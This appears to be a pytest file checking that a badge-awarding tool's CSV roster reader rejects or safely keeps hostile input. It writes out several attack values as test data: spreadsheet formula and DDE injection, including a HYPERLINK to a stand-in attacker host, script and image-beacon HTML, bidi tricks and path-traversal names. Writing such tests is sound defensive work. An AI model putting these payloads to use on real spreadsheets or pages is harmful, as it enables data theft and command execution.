"""The hostile rosters of the shared vectors."""

import json
from pathlib import Path

import pytest

from badgedesk.awarding import read_roster
from badgedesk.core.errors import Code, InputError, LimitExceededError

ROSTERS = (
    "bidi dup email-header html injection latin1 long-field nul path-names unclosed".split()  # noqa: SIM905 - a table
)


def _read(vectors_dir: Path, name: str) -> bytes:
    return (vectors_dir / "hostile" / "zip" / f"roster-{name}.csv").read_bytes()


def test_every_roster_of_the_vectors_is_tested_here(vectors_dir: Path) -> None:
    index = json.loads((vectors_dir / "hostile" / "index.json").read_text("utf-8"))
    listed = {entry["file"] for entry in index["entries"] if entry["file"].startswith("zip/roster-")}
    assert listed == {f"zip/roster-{name}.csv" for name in ROSTERS}


@pytest.mark.parametrize(
    ("name", "kind", "code"),
    [
        ("latin1", InputError, Code.TEXT_NOT_UTF8),
        ("long-field", LimitExceededError, Code.ROSTER_LIMIT),
        ("nul", InputError, Code.ROSTER_FORMAT),
        ("unclosed", InputError, Code.ROSTER_FORMAT),
    ],
)
def test_a_list_that_cannot_be_trusted_is_refused(
    vectors_dir: Path, name: str, kind: type[InputError], code: Code
) -> None:
    with pytest.raises(kind) as caught:
        read_roster(_read(vectors_dir, name))
    assert caught.value.code is code


def test_one_learner_three_times_is_awarded_once(vectors_dir: Path) -> None:
    roster = read_roster(_read(vectors_dir, "dup"))
    assert [row.recipient.name for row in roster.rows] == ["Ada"]
    assert [(p.row, p.code) for p in roster.problems] == [(3, Code.ROSTER_DUPLICATE), (4, Code.ROSTER_DUPLICATE)]


def test_addresses_that_would_write_mail_headers_are_refused(vectors_dir: Path) -> None:
    roster = read_roster(_read(vectors_dir, "email-header"))
    assert not roster.rows
    assert [(p.row, p.code) for p in roster.problems] == [(2, Code.ROSTER_EMAIL), (3, Code.ROSTER_EMAIL)]


def test_a_problem_never_repeats_line_breaks(vectors_dir: Path) -> None:
    problems = read_roster(_read(vectors_dir, "email-header")).problems
    assert all("\n" not in value and "\r" not in value for problem in problems for _, value in problem.facts)


@pytest.mark.parametrize(
    ("name", "names"),
    [
        (
            "injection",
            [
                '=HYPERLINK("https://attacker.invalid/"&A1;"x")',
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(1+1)",
                "\t=1+1",
                "\r=1",
                "﹦1+1",
            ],
        ),
        ("html", ["<b>Ada</b><script>x()</script>", '<img src="https://attacker.invalid/t">']),
        ("bidi", ["Ada\u202eecalevoL\u202c", "Bob\u200b"]),
        ("path-names", ["../../etc/cron.d/x", "CON", "a/b\\c:d*e?f|g", "."]),
    ],
)
def test_dangerous_names_are_text_and_stay_unchanged(vectors_dir: Path, name: str, names: list[str]) -> None:
    roster = read_roster(_read(vectors_dir, name))
    assert [row.recipient.name for row in roster.rows] == names


def test_the_row_without_a_name_is_told(vectors_dir: Path) -> None:
    problems = read_roster(_read(vectors_dir, "path-names")).problems
    assert [(p.row, p.code) for p in problems] == [(6, Code.ROSTER_NAME)]
